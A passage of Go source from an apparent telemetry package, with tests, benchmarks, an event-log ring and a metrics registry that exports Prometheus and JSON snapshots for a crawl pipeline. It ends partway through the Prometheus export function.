			for i := 0; i < 1000; i++ {
				c.Inc()
				h.Observe(float64(i % 5))
			}
		}()
	}
	wg.Wait()
	if c.Value() != 8000 || h.Count() != 8000 {
		t.Fatalf("lost updates: counter=%d hist=%d", c.Value(), h.Count())
	}
}

func TestSnapshotDeterministicOrderAndExports(t *testing.T) {
	r := NewRegistry()
	r.Counter("b_total").Add(2)
	r.Counter("a_total", L("k", "v")).Inc()
	r.Gauge("g").Set(7)
	r.Histogram("h_ns", []float64{10, 100}).Observe(50)

	snap := r.Snapshot()
	for i := 1; i < len(snap); i++ {
		if snap[i-1].Name > snap[i].Name {
			t.Fatalf("snapshot not sorted: %q > %q", snap[i-1].Name, snap[i].Name)
		}
	}

	var jsonBuf bytes.Buffer
	if err := r.WriteJSON(&jsonBuf); err != nil {
		t.Fatal(err)
	}
	var decoded []MetricPoint
	if err := json.Unmarshal(jsonBuf.Bytes(), &decoded); err != nil {
		t.Fatalf("JSON snapshot not parseable: %v", err)
	}
	if len(decoded) != 4 {
		t.Fatalf("decoded %d metrics, want 4", len(decoded))
	}

	var promBuf bytes.Buffer
	if err := r.WritePrometheus(&promBuf); err != nil {
		t.Fatal(err)
	}
	prom := promBuf.String()
	for _, want := range []string{
		`a_total{k="v"} 1`,
		"b_total 2",
		"g 7",
		`h_ns_bucket{le="10"} 0`,
		`h_ns_bucket{le="100"} 1`,
		`h_ns_bucket{le="+Inf"} 1`,
		"h_ns_count 1",
	} {
		if !strings.Contains(prom, want) {
			t.Fatalf("prometheus dump missing %q:\n%s", want, prom)
		}
	}
}

func TestPrometheusLabelEscaping(t *testing.T) {
	r := NewRegistry()
	hostile := "back\\slash \"quoted\"\nnewline\ttab"
	r.Counter("hostile_total", L("v", hostile)).Inc()

	var buf bytes.Buffer
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	// Exposition format: backslash, double quote, and newline are escaped;
	// everything else (the tab) passes through raw.
	want := `hostile_total{v="back\\slash \"quoted\"\nnewline` + "\ttab" + `"} 1`
	if !strings.Contains(out, want) {
		t.Fatalf("escaped series missing.\nwant %q\ngot:\n%s", want, out)
	}
	// No sample line may contain a raw newline inside its label braces —
	// each metric line must be exactly one line.
	for _, line := range strings.Split(strings.TrimRight(out, "\n"), "\n") {
		if strings.Count(line, `"`)%2 != 0 {
			t.Fatalf("unbalanced quotes (raw newline leaked?): %q", line)
		}
	}
}

func TestPrometheusFamiliesContiguousAndSorted(t *testing.T) {
	r := NewRegistry()
	// "foo_bar" sorts between "foo" and "foo|l=…" under the raw identity-key
	// order, which used to split the foo family in the exposition output.
	r.Counter("foo").Inc()
	r.Counter("foo", L("l", "1")).Add(2)
	r.Counter("foo_bar").Add(3)
	r.Gauge("a_gauge").Set(9)

	var buf bytes.Buffer
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	var families []string
	for _, line := range strings.Split(strings.TrimRight(buf.String(), "\n"), "\n") {
		if strings.HasPrefix(line, "# TYPE ") {
			families = append(families, strings.Fields(line)[2])
			continue
		}
		if len(families) == 0 {
			t.Fatalf("sample before any TYPE header: %q", line)
		}
		name := line[:strings.IndexAny(line, "{ ")]
		if fam := families[len(families)-1]; name != fam {
			t.Fatalf("series %q emitted under family %q: families are not contiguous\n%s",
				line, fam, buf.String())
		}
	}
	if want := []string{"a_gauge", "foo", "foo_bar"}; strings.Join(families, ",") != strings.Join(want, ",") {
		t.Fatalf("family order = %v, want %v", families, want)
	}
}

func TestSnapshotUnderConcurrentWrites(t *testing.T) {
	r := NewRegistry()
	stop := make(chan struct{})
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			c := r.Counter("writes_total", L("w", string(rune('a'+w))))
			h := r.Histogram("lat", []float64{1, 10, 100})
			g := r.Gauge("level")
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				c.Inc()
				h.Observe(float64(i % 128))
				g.Set(int64(i))
				// New series appear while snapshots run.
				if i%64 == 0 {
					r.Counter("dyn_total", L("i", string(rune('a'+i%8)))).Inc()
				}
			}
		}(w)
	}
	for i := 0; i < 50; i++ {
		snap := r.Snapshot()
		for j := 1; j < len(snap); j++ {
			if snap[j-1].Name > snap[j].Name {
				t.Fatalf("snapshot unsorted under concurrency: %q > %q", snap[j-1].Name, snap[j].Name)
			}
		}
		var buf bytes.Buffer
		if err := r.WritePrometheus(&buf); err != nil {
			t.Fatal(err)
		}
	}
	close(stop)
	wg.Wait()
}

func TestGaugeSetMaxAndReadOnlyLookups(t *testing.T) {
	r := NewRegistry()
	g := r.Gauge("depth", L("stage", "crawl"))
	g.SetMax(5)
	g.SetMax(3) // lower: ignored
	if g.Value() != 5 {
		t.Fatalf("SetMax kept %d, want 5", g.Value())
	}
	if v, ok := r.GaugeValue("depth", L("stage", "crawl")); !ok || v != 5 {
		t.Fatalf("GaugeValue = %d,%v", v, ok)
	}
	// Read-only lookups never create instruments.
	if _, ok := r.GaugeValue("absent"); ok {
		t.Fatal("GaugeValue invented a gauge")
	}
	if _, ok := r.HistogramIf("absent", L("x", "y")); ok {
		t.Fatal("HistogramIf invented a histogram")
	}
	if _, ok := r.CounterValue("absent"); ok {
		t.Fatal("CounterValue invented a counter")
	}
	if len(r.Snapshot()) != 1 {
		t.Fatalf("registry grew to %d metrics after read-only lookups", len(r.Snapshot()))
	}
}

func TestNilSetIsNoop(t *testing.T) {
	var s *Set
	if s.Counter("x") != nil || s.Gauge("y") != nil || s.StageHist(StageCrawlVisit) != nil {
		t.Fatal("nil Set returned live instruments")
	}
	if got := s.LatencyTable(); got != "" {
		t.Fatalf("nil Set latency table = %q", got)
	}
}
