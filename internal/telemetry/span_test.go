package telemetry

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestSpanIDsDeterministic(t *testing.T) {
	build := func() []uint64 {
		s := New(42)
		s.EnableTracing()
		ctx, root := s.StartSpan(context.Background(), StageCrawlVisit, "site-a|d1r0")
		_, c1 := s.StartSpan(ctx, StageBrowserLoad, "http://site-a/")
		c1.End()
		_, c2 := s.StartSpan(ctx, StageEasyList, "http://ads/frame")
		c2.End()
		root.End()
		return []uint64{root.ID(), c1.ID(), c2.ID()}
	}
	a, b := build(), build()
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("span %d ID diverged across identical runs: %x vs %x", i, a[i], b[i])
		}
	}
	if a[1] == a[2] || a[0] == a[1] {
		t.Fatal("span IDs collide within one tree")
	}
	if RootID(42, StageCrawlVisit, "k") == RootID(43, StageCrawlVisit, "k") {
		t.Fatal("root IDs ignore the seed")
	}
}

func TestSiblingSpansWithSameKeyGetDistinctIDs(t *testing.T) {
	s := New(1)
	ctx, root := s.StartSpan(context.Background(), StageCrawlVisit, "v")
	_, a := s.StartSpan(ctx, StageBrowserLoad, "http://same/url")
	_, b := s.StartSpan(ctx, StageBrowserLoad, "http://same/url")
	a.End()
	b.End()
	root.End()
	if a.ID() == b.ID() {
		t.Fatal("same-key siblings share an ID")
	}
}

func TestSpanEndFeedsStageHistogram(t *testing.T) {
	s := New(1)
	_, sp := s.StartSpan(context.Background(), StageMemnet, "http://x/")
	sp.End()
	if n := s.StageHist(StageMemnet).Count(); n != 1 {
		t.Fatalf("stage histogram count = %d, want 1", n)
	}
	if s.Tracer != nil {
		t.Fatal("tracer materialized without EnableTracing")
	}
}

func TestNilSpanAndNilSet(t *testing.T) {
	var s *Set
	ctx, sp := s.StartSpan(context.Background(), StageOracle, "h")
	if sp != nil || ctx == nil {
		t.Fatal("nil Set StartSpan misbehaved")
	}
	sp.End() // must not panic
}

// buildTrace records a two-level tree and returns the tracer.
func buildTrace(t *testing.T) *Tracer {
	t.Helper()
	s := New(7)
	s.EnableTracing()
	ctx, root := s.StartSpan(context.Background(), StageOracle, "adhash")
	hctx, h := s.StartSpan(ctx, StageHoneyclient, "http://ad/")
	_, l := s.StartSpan(hctx, StageBrowserLoad, "http://ad/")
	time.Sleep(time.Millisecond)
	l.End()
	h.End()
	root.End()
	return s.Tracer
}

func TestWriteJSONL(t *testing.T) {
	tr := buildTrace(t)
	var buf bytes.Buffer
	if err := tr.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&buf)
	lines := 0
	for sc.Scan() {
		lines++
		var rec map[string]any
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			t.Fatalf("line %d not JSON: %v", lines, err)
		}
		if rec["stage"] == "" || rec["id"] == "" {
			t.Fatalf("line %d missing fields: %v", lines, rec)
		}
	}
	if lines != 3 {
		t.Fatalf("wrote %d spans, want 3", lines)
	}
}

func TestWriteChromeTrace(t *testing.T) {
	tr := buildTrace(t)
	var buf bytes.Buffer
	if err := tr.WriteChromeTrace(&buf); err != nil {
		t.Fatal(err)
	}
	var trace struct {
		TraceEvents []struct {
			Name string  `json:"name"`
			Ph   string  `json:"ph"`
			TS   float64 `json:"ts"`
			Dur  float64 `json:"dur"`
			PID  int     `json:"pid"`
			TID  int     `json:"tid"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &trace); err != nil {
		t.Fatalf("chrome trace not parseable: %v", err)
	}
	if len(trace.TraceEvents) != 3 {
		t.Fatalf("%d events, want 3", len(trace.TraceEvents))
	}
	tid := trace.TraceEvents[0].TID
	for _, ev := range trace.TraceEvents {
		if ev.Ph != "X" || ev.PID != 1 {
			t.Fatalf("bad event envelope: %+v", ev)
		}
		if ev.TID != tid {
			t.Fatal("one tree split across tracks")
		}
	}
	// The leaf slept ~1ms; its duration must be visible in microseconds.
	var sawMS bool
	for _, ev := range trace.TraceEvents {
		if ev.Dur >= 500 { // 500µs
			sawMS = true
		}
	}
	if !sawMS {
		t.Fatal("durations lost in unit conversion")
	}
}

func TestTracerMaxSpans(t *testing.T) {
	s := New(1)
	s.EnableTracing()
	s.Tracer.MaxSpans = 2
	for i := 0; i < 5; i++ {
		_, sp := s.StartSpan(context.Background(), StageMemnet, "k")
		sp.End()
	}
	if s.Tracer.Len() != 2 || s.Tracer.Dropped() != 3 {
		t.Fatalf("len=%d dropped=%d, want 2/3", s.Tracer.Len(), s.Tracer.Dropped())
	}
}

func TestLatencyTableRendersObservedStages(t *testing.T) {
	s := New(1)
	_, sp := s.StartSpan(context.Background(), StageCrawlVisit, "v")
	sp.End()
	tbl := s.LatencyTable()
	if !strings.Contains(tbl, StageCrawlVisit) || !strings.Contains(tbl, "p99") {
		t.Fatalf("table missing content:\n%s", tbl)
	}
	if strings.Contains(tbl, StageOracle) {
		t.Fatal("table lists unobserved stage")
	}
}

func TestStartPprofServes(t *testing.T) {
	addr, stop, err := StartPprof("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer stop() //nolint:errcheck
	resp, err := http.Get("http://" + addr + "/debug/pprof/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("pprof index status %d", resp.StatusCode)
	}
}

func TestProfileStudyWritesFiles(t *testing.T) {
	dir := t.TempDir()
	cpu := filepath.Join(dir, "cpu.prof")
	heap := filepath.Join(dir, "heap.prof")
	finish, err := ProfileStudy(cpu, heap)
	if err != nil {
		t.Fatal(err)
	}
	// Burn a little CPU so the profile has samples to flush.
	x := 0
	for i := 0; i < 1_000_000; i++ {
		x += i % 7
	}
	_ = x
	if err := finish(); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{cpu, heap} {
		st, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if st.Size() == 0 {
			t.Fatalf("%s is empty", p)
		}
	}
}
