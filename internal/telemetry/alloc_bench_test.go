package telemetry

import (
	"context"
	"testing"
)

// BenchmarkCounterLookupHot pins the repeated labeled-instrument lookup at
// zero allocations: the stack-built identity key means callers that cannot
// hoist the handle still pay only the registry mutex.
func BenchmarkCounterLookupHot(b *testing.B) {
	r := NewRegistry()
	r.Counter("requests_total", L("cause", "nx"))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		r.Counter("requests_total", L("cause", "nx")).Inc()
	}
}

// BenchmarkStageHistCached pins Set.StageHist's copy-on-write cache hit.
func BenchmarkStageHistCached(b *testing.B) {
	s := New(1)
	s.StageHist(StageMemnet)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if s.StageHist(StageMemnet) == nil {
			b.Fatal("nil histogram")
		}
	}
}

// BenchmarkStageTimer measures the leaf-stage fast path with no tracer: a
// histogram observation bracketed by two clock reads, nothing on the heap.
func BenchmarkStageTimer(b *testing.B) {
	s := New(1)
	ctx := context.Background()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		t := s.StartStageTimer(ctx, StageMemnet, "")
		t.End()
	}
}

// BenchmarkStartSpanEnd is the full Span path for comparison (Span + child
// context allocations).
func BenchmarkStartSpanEnd(b *testing.B) {
	s := New(1)
	ctx := context.Background()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_, sp := s.StartSpan(ctx, StageMemnet, "k")
		sp.End()
	}
}
