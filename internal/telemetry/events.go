package telemetry

import (
	"bufio"
	"encoding/json"
	"io"
	"sync"
	"time"
)

// Event levels. Events are operational annotations — they follow the same
// cardinal rule as every other telemetry artifact: written out of the
// pipeline, never read back in.
const (
	LevelInfo  = "info"
	LevelWarn  = "warn"
	LevelError = "error"
)

// Event kinds emitted by the pipeline's own layers. Higher layers (the ops
// plane's alert evaluator, commands) add their own kinds; the ring does not
// restrict the vocabulary.
const (
	EventStageRestart    = "stage_restart"
	EventWatchdogSteal   = "watchdog_steal"
	EventRestartBudget   = "restart_budget_exhausted"
	EventShedBurst       = "shed_burst"
	EventShedBurstEnd    = "shed_burst_end"
	EventBreakerOpen     = "breaker_open"
	EventBreakerClose    = "breaker_close"
	EventCheckpoint      = "checkpoint_compacted"
	EventJournalRecovery = "journal_recovered"
	EventJournalFailure  = "journal_failure"
	EventRunStarted      = "run_started"
	EventRunFinished     = "run_finished"
	EventAlertFire       = "alert_fire"
	EventAlertResolve    = "alert_resolve"
)

// Event is one structured operational log entry. Seq is a monotonic per-log
// sequence (never reused, so a reader can detect ring overwrites); WallNS is
// the wall-clock emission time in Unix nanoseconds — events are operator
// artifacts, so wall time is the honest clock for them.
type Event struct {
	Seq    int64             `json:"seq"`
	WallNS int64             `json:"wall_ns"`
	Level  string            `json:"level"`
	Kind   string            `json:"kind"`
	Stage  string            `json:"stage,omitempty"`
	Msg    string            `json:"msg,omitempty"`
	Fields map[string]string `json:"fields,omitempty"`
}

// DefaultEventCapacity bounds the ring when NewEventLog is given 0.
const DefaultEventCapacity = 1024

// EventLog is a bounded ring of structured events plus an optional streaming
// JSONL sink. The ring keeps the most recent Capacity events for the /events
// endpoint; memory is flat no matter how long the service runs. Emission is
// cheap (one mutex, no allocation beyond the event itself) and safe from any
// goroutine.
type EventLog struct {
	mu    sync.Mutex
	buf   []Event // ring storage, len == capacity
	total int64   // events ever emitted == next seq
	sink  *bufio.Writer
	enc   *json.Encoder

	// now is the clock; injectable for tests.
	now func() time.Time
}

// NewEventLog returns an empty ring holding at most capacity events
// (0 = DefaultEventCapacity).
func NewEventLog(capacity int) *EventLog {
	if capacity <= 0 {
		capacity = DefaultEventCapacity
	}
	return &EventLog{buf: make([]Event, capacity), now: time.Now}
}

// SetClock replaces the wall clock (tests only; call before emitting).
func (l *EventLog) SetClock(now func() time.Time) {
	l.mu.Lock()
	l.now = now
	l.mu.Unlock()
}

// SetSink attaches a streaming sink: every subsequent event is also appended
// to w as one JSON line. The caller owns w's lifetime; Flush before closing
// it.
func (l *EventLog) SetSink(w io.Writer) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.sink = bufio.NewWriter(w)
	l.enc = json.NewEncoder(l.sink)
}

// Flush forces buffered sink output to the underlying writer.
func (l *EventLog) Flush() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.sink == nil {
		return nil
	}
	return l.sink.Flush()
}

// Emit appends one event. fields are alternating key, value pairs; an odd
// trailing key gets an empty value.
func (l *EventLog) Emit(level, kind, stage, msg string, fields ...string) {
	if l == nil {
		return
	}
	ev := Event{Level: level, Kind: kind, Stage: stage, Msg: msg}
	if len(fields) > 0 {
		ev.Fields = make(map[string]string, (len(fields)+1)/2)
		for i := 0; i < len(fields); i += 2 {
			v := ""
			if i+1 < len(fields) {
				v = fields[i+1]
			}
			ev.Fields[fields[i]] = v
		}
	}
	l.mu.Lock()
	ev.Seq = l.total
	ev.WallNS = l.now().UnixNano()
	l.buf[ev.Seq%int64(len(l.buf))] = ev
	l.total++
	if l.enc != nil {
		_ = l.enc.Encode(ev) // sink errors must never disturb the pipeline
	}
	l.mu.Unlock()
}

// Total returns how many events have ever been emitted (retained or not).
func (l *EventLog) Total() int64 {
	if l == nil {
		return 0
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.total
}

// Snapshot returns the retained events oldest-first. With last > 0 only the
// most recent last events are returned.
func (l *EventLog) Snapshot(last int) []Event {
	if l == nil {
		return nil
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	n := l.total
	if n > int64(len(l.buf)) {
		n = int64(len(l.buf))
	}
	if last > 0 && int64(last) < n {
		n = int64(last)
	}
	out := make([]Event, 0, n)
	for i := l.total - n; i < l.total; i++ {
		out = append(out, l.buf[i%int64(len(l.buf))])
	}
	return out
}

// WriteJSONL writes the retained events (most recent last events when
// last > 0) as JSON lines.
func (l *EventLog) WriteJSONL(w io.Writer, last int) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for _, ev := range l.Snapshot(last) {
		if err := enc.Encode(ev); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// Event is the nil-safe emission helper: a Set without an event log (or a
// nil Set) swallows the event, so instrumented code needs no branches.
func (s *Set) Event(level, kind, stage, msg string, fields ...string) {
	if s == nil || s.Events == nil {
		return
	}
	s.Events.Emit(level, kind, stage, msg, fields...)
}
