// Package telemetry is the pipeline's observability substrate: a
// zero-dependency metrics registry (atomic counters, gauges, fixed-bucket
// latency histograms with label support), lightweight spans that record the
// crawl→oracle pipeline tree with deterministic IDs, and profiling hooks
// around net/http/pprof.
//
// The cardinal rule is that telemetry never influences control flow: every
// value it produces is written *out* of the pipeline, never read back in.
// Counters record the same deterministic event counts the study's Stats
// structs expose, so a run with telemetry enabled is byte-identical — in
// study stats and corpus — to one without. Wall-clock durations exist only
// in telemetry output (histograms, spans), never in study results; the
// repository's determinism tests assert exactly this.
//
// Metric naming follows the Prometheus convention: snake_case names,
// `_total` suffix on counters, `_ns` suffix on duration histograms, and
// labels for bounded dimensions (error cause, pipeline stage). All stage
// durations share one histogram family, pipeline_stage_duration_ns{stage=…},
// which is what the end-of-run latency table reads.
package telemetry

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Label is one metric dimension (key="value").
type Label struct {
	Key   string
	Value string
}

// L is shorthand for constructing a Label.
func L(key, value string) Label { return Label{Key: key, Value: value} }

// Counter is a monotonically increasing atomic counter.
type Counter struct {
	v int64
}

// Inc adds one.
func (c *Counter) Inc() { atomic.AddInt64(&c.v, 1) }

// Add adds n (n must be non-negative; counters only go up).
func (c *Counter) Add(n int64) { atomic.AddInt64(&c.v, n) }

// Value returns the current count.
func (c *Counter) Value() int64 { return atomic.LoadInt64(&c.v) }

// Gauge is an atomic value that can go up and down.
type Gauge struct {
	v int64
}

// Set replaces the gauge's value.
func (g *Gauge) Set(n int64) { atomic.StoreInt64(&g.v, n) }

// Add adjusts the gauge by n (negative allowed) and returns the new value.
func (g *Gauge) Add(n int64) int64 { return atomic.AddInt64(&g.v, n) }

// SetMax raises the gauge to n if n exceeds the current value — a high-water
// mark that concurrent writers can bump without coordination.
func (g *Gauge) SetMax(n int64) {
	for {
		cur := atomic.LoadInt64(&g.v)
		if n <= cur || atomic.CompareAndSwapInt64(&g.v, cur, n) {
			return
		}
	}
}

// Value returns the current value.
func (g *Gauge) Value() int64 { return atomic.LoadInt64(&g.v) }

// Histogram is a fixed-bucket histogram. Bounds are upper bucket bounds in
// ascending order; an implicit +Inf bucket catches the tail. Observations,
// the running sum, and the count are all atomic, so concurrent workers can
// observe without coordination.
type Histogram struct {
	bounds []float64
	counts []int64 // len(bounds)+1; last is +Inf
	sum    int64   // total of observations, rounded to int64
	count  int64
}

// DefaultLatencyBuckets covers 1µs to ~67s in doubling steps — wide enough
// for an in-memory dispatch (ns–µs) and a stalled socket attempt (seconds)
// on one axis.
func DefaultLatencyBuckets() []float64 {
	bounds := make([]float64, 0, 27)
	for b := float64(1_000); b <= 67e9; b *= 2 { // 1µs .. ~67s in ns
		bounds = append(bounds, b)
	}
	return bounds
}

func newHistogram(bounds []float64) *Histogram {
	if len(bounds) == 0 {
		bounds = DefaultLatencyBuckets()
	}
	b := make([]float64, len(bounds))
	copy(b, bounds)
	sort.Float64s(b)
	return &Histogram{bounds: b, counts: make([]int64, len(b)+1)}
}

// Observe records one value.
func (h *Histogram) Observe(v float64) {
	i := sort.SearchFloat64s(h.bounds, v)
	atomic.AddInt64(&h.counts[i], 1)
	atomic.AddInt64(&h.sum, int64(v))
	atomic.AddInt64(&h.count, 1)
}

// ObserveDuration records a duration in nanoseconds.
func (h *Histogram) ObserveDuration(d time.Duration) { h.Observe(float64(d.Nanoseconds())) }

// Count returns the number of observations.
func (h *Histogram) Count() int64 { return atomic.LoadInt64(&h.count) }

// Sum returns the sum of observations.
func (h *Histogram) Sum() float64 { return float64(atomic.LoadInt64(&h.sum)) }

// Quantile estimates the q-quantile (q in [0,1]) by linear interpolation
// within the winning bucket. An empty histogram returns 0. The +Inf bucket
// reports its lower bound (the largest finite bound).
func (h *Histogram) Quantile(q float64) float64 {
	total := h.Count()
	if total == 0 {
		return 0
	}
	if q < 0 {
		q = 0
	}
	if q > 1 {
		q = 1
	}
	need := q * float64(total)
	if need < 1 {
		need = 1
	}
	cum := int64(0)
	for i := range h.counts {
		n := atomic.LoadInt64(&h.counts[i])
		if n == 0 {
			continue
		}
		if float64(cum+n) >= need-1e-9 {
			lo := 0.0
			if i > 0 {
				lo = h.bounds[i-1]
			}
			if i == len(h.bounds) { // +Inf bucket: no finite upper edge
				return lo
			}
			hi := h.bounds[i]
			frac := (need - float64(cum)) / float64(n)
			if frac < 0 {
				frac = 0
			}
			if frac > 1 {
				frac = 1
			}
			return lo + frac*(hi-lo)
		}
		cum += n
	}
	if len(h.bounds) == 0 {
		return 0
	}
	return h.bounds[len(h.bounds)-1]
}

// metricKind discriminates snapshot entries.
type metricKind string

// Metric kinds as they appear in snapshots.
const (
	KindCounter   metricKind = "counter"
	KindGauge     metricKind = "gauge"
	KindHistogram metricKind = "histogram"
)

// metric is one registered instrument with its identity.
type metric struct {
	name   string
	labels []Label
	kind   metricKind

	counter *Counter
	gauge   *Gauge
	hist    *Histogram
}

// Registry is a concurrent collection of named, labeled instruments.
// Get-or-create lookups take a mutex; the returned handles are lock-free,
// so hot paths should fetch their instruments once and hold them.
type Registry struct {
	mu      sync.Mutex
	metrics map[string]*metric
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{metrics: make(map[string]*metric)}
}

// key builds the canonical identity of (name, labels) with labels sorted.
func key(name string, labels []Label) (string, []Label) {
	if len(labels) == 0 {
		return name, nil
	}
	ls := make([]Label, len(labels))
	copy(ls, labels)
	sort.Slice(ls, func(i, j int) bool { return ls[i].Key < ls[j].Key })
	var b strings.Builder
	b.WriteString(name)
	for _, l := range ls {
		b.WriteByte('|')
		b.WriteString(l.Key)
		b.WriteByte('=')
		b.WriteString(l.Value)
	}
	return b.String(), ls
}

// get probes for an existing metric without allocating: up to four labels
// are insertion-sorted into a stack array and the identity key is assembled
// in a stack buffer, so a repeated lookup of a registered instrument costs
// only the mutex. More labels than that fall back to the allocating key
// builder — no caller is anywhere near it.
func (r *Registry) get(name string, labels []Label) *metric {
	if len(labels) > 4 {
		k, _ := key(name, labels)
		r.mu.Lock()
		m := r.metrics[k]
		r.mu.Unlock()
		return m
	}
	var la [4]Label
	ls := la[:len(labels)]
	copy(ls, labels)
	for i := 1; i < len(ls); i++ {
		for j := i; j > 0 && ls[j].Key < ls[j-1].Key; j-- {
			ls[j], ls[j-1] = ls[j-1], ls[j]
		}
	}
	var ka [96]byte
	b := append(ka[:0], name...)
	for _, l := range ls {
		b = append(b, '|')
		b = append(b, l.Key...)
		b = append(b, '=')
		b = append(b, l.Value...)
	}
	r.mu.Lock()
	m := r.metrics[string(b)] // map access with string(b) — no allocation
	r.mu.Unlock()
	return m
}

// lookup returns the metric for (name, labels), creating it with mk when
// absent. It panics if the existing metric has a different kind — mixing
// kinds under one name is a programming error worth failing loudly on.
// The hit path is allocation-free (see get); only first registration pays
// for the canonical key string and label copy.
func (r *Registry) lookup(name string, labels []Label, kind metricKind, mk func(*metric)) *metric {
	if m := r.get(name, labels); m != nil {
		if m.kind != kind {
			panic(fmt.Sprintf("telemetry: metric %q registered as %s, requested as %s", name, m.kind, kind))
		}
		return m
	}
	k, ls := key(name, labels)
	r.mu.Lock()
	defer r.mu.Unlock()
	if m, ok := r.metrics[k]; ok {
		if m.kind != kind {
			panic(fmt.Sprintf("telemetry: metric %q registered as %s, requested as %s", name, m.kind, kind))
		}
		return m
	}
	m := &metric{name: name, labels: ls, kind: kind}
	mk(m)
	r.metrics[k] = m
	return m
}

// Counter returns the counter for (name, labels), creating it if needed.
func (r *Registry) Counter(name string, labels ...Label) *Counter {
	return r.lookup(name, labels, KindCounter, func(m *metric) { m.counter = &Counter{} }).counter
}

// Gauge returns the gauge for (name, labels), creating it if needed.
func (r *Registry) Gauge(name string, labels ...Label) *Gauge {
	return r.lookup(name, labels, KindGauge, func(m *metric) { m.gauge = &Gauge{} }).gauge
}

// Histogram returns the histogram for (name, labels), creating it with the
// given bucket bounds if needed (nil bounds = DefaultLatencyBuckets). Bounds
// are fixed at first registration; later calls reuse the existing buckets.
func (r *Registry) Histogram(name string, bounds []float64, labels ...Label) *Histogram {
	return r.lookup(name, labels, KindHistogram, func(m *metric) { m.hist = newHistogram(bounds) }).hist
}

// find returns the registered metric for (name, labels) without creating it.
func (r *Registry) find(name string, labels []Label) *metric {
	return r.get(name, labels)
}

// GaugeValue reads the gauge for (name, labels) if one is registered. Unlike
// Gauge it never creates the instrument, so read-only consumers (tables,
// status pages) do not pollute the registry with zero-valued entries.
func (r *Registry) GaugeValue(name string, labels ...Label) (int64, bool) {
	m := r.find(name, labels)
	if m == nil || m.kind != KindGauge {
		return 0, false
	}
	return m.gauge.Value(), true
}

// CounterValue reads the counter for (name, labels) without creating it.
func (r *Registry) CounterValue(name string, labels ...Label) (int64, bool) {
	m := r.find(name, labels)
	if m == nil || m.kind != KindCounter {
		return 0, false
	}
	return m.counter.Value(), true
}

// HistogramIf returns the histogram for (name, labels) if one is registered,
// without creating it.
func (r *Registry) HistogramIf(name string, labels ...Label) (*Histogram, bool) {
	m := r.find(name, labels)
	if m == nil || m.kind != KindHistogram {
		return nil, false
	}
	return m.hist, true
}

// MetricPoint is one instrument's state in a Snapshot.
type MetricPoint struct {
	Name   string            `json:"name"`
	Labels map[string]string `json:"labels,omitempty"`
	Kind   string            `json:"kind"`
	// Value is the counter/gauge value; histograms use the fields below.
	Value int64 `json:"value,omitempty"`
	// Histogram state: cumulative-style bucket counts per upper bound
	// (the last entry is the +Inf bucket, bound omitted).
	Count   int64     `json:"count,omitempty"`
	Sum     float64   `json:"sum,omitempty"`
	Bounds  []float64 `json:"bounds,omitempty"`
	Buckets []int64   `json:"buckets,omitempty"`
}

// Snapshot returns the state of every instrument, sorted by (name, labels)
// so output is deterministic for a given set of counts.
func (r *Registry) Snapshot() []MetricPoint {
	r.mu.Lock()
	ms := make([]*metric, 0, len(r.metrics))
	keys := make([]string, 0, len(r.metrics))
	for k := range r.metrics {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		ms = append(ms, r.metrics[k])
	}
	r.mu.Unlock()

	out := make([]MetricPoint, 0, len(ms))
	for _, m := range ms {
		p := MetricPoint{Name: m.name, Kind: string(m.kind)}
		if len(m.labels) > 0 {
			p.Labels = make(map[string]string, len(m.labels))
			for _, l := range m.labels {
				p.Labels[l.Key] = l.Value
			}
		}
		switch m.kind {
		case KindCounter:
			p.Value = m.counter.Value()
		case KindGauge:
			p.Value = m.gauge.Value()
		case KindHistogram:
			h := m.hist
			p.Count = h.Count()
			p.Sum = h.Sum()
			p.Bounds = append([]float64(nil), h.bounds...)
			p.Buckets = make([]int64, len(h.counts))
			for i := range h.counts {
				p.Buckets[i] = atomic.LoadInt64(&h.counts[i])
			}
		}
		out = append(out, p)
	}
	return out
}

// WriteJSON writes the snapshot as one indented JSON document.
func (r *Registry) WriteJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(r.Snapshot())
}

// WritePrometheus writes the snapshot in the Prometheus text exposition
// format (histograms as cumulative _bucket/_sum/_count series). Series are
// grouped into contiguous metric families in sorted name order — the raw
// snapshot order sorts by the internal identity key, which can interleave
// families when one family's name is a prefix of another ("foo{l=…}" sorts
// after "foo_bar") — and each family gets a # TYPE header, which scrapers
// require to be adjacent to its samples.
func (r *Registry) WritePrometheus(w io.Writer) error {
	points := r.Snapshot()
	type series struct {
		p      MetricPoint
		labels string
	}
	ss := make([]series, len(points))
	for i, p := range points {
		ss[i] = series{p: p, labels: promLabels(p.Labels, "", 0)}
	}
